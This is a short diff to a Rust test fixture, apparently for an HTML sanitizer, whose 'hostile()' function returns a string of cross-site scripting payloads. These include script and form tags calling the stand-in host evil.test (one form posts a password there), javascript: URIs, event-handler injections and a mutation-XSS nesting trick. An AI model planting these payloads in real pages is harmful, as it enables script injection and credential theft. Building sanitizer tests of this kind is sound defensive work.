@@ -72,7 +72,7 @@ fn hostile() -> String {
          <body onload=alert(1)><script src=https://evil.test/d.js></script>\
          <form action=https://evil.test/e method=post><input name=password><button formaction=javascript:alert(1)>Sign in</button></form>\
          <iframe src=https://evil.test/f></iframe><object data=https://evil.test/g></object><embed src=https://evil.test/h>\
-         <svg><script>alert(2)</script><a xlink:href=javascript:alert(3)>x</a></svg><math><mtext></form><form><mglyph><style></math><img src onerror=alert(4)>\
+         <svg><script>alert(2)</script><a xlink:href=javascript:alert(3)>x</a></svg><math><mtext></form><form><mglyph><style></math><img src onerror=alert(4)></style>\
          <a href='&#x6a;avascript:alert(5)'>click</a><a href=https://shop.test/ target=_top onclick=alert(6)>shop</a>\
          <img src=cid:pixel><img src='cid:drawing'><img src=cid:none><img src=https://evil.test/i.png><img src=\"data:text/html,<script>1</script>\">\
          <p style='position:fixed;inset:0'>{ATTACK}</p><!--<script>alert(7)</script>--></iframe></body></html>"
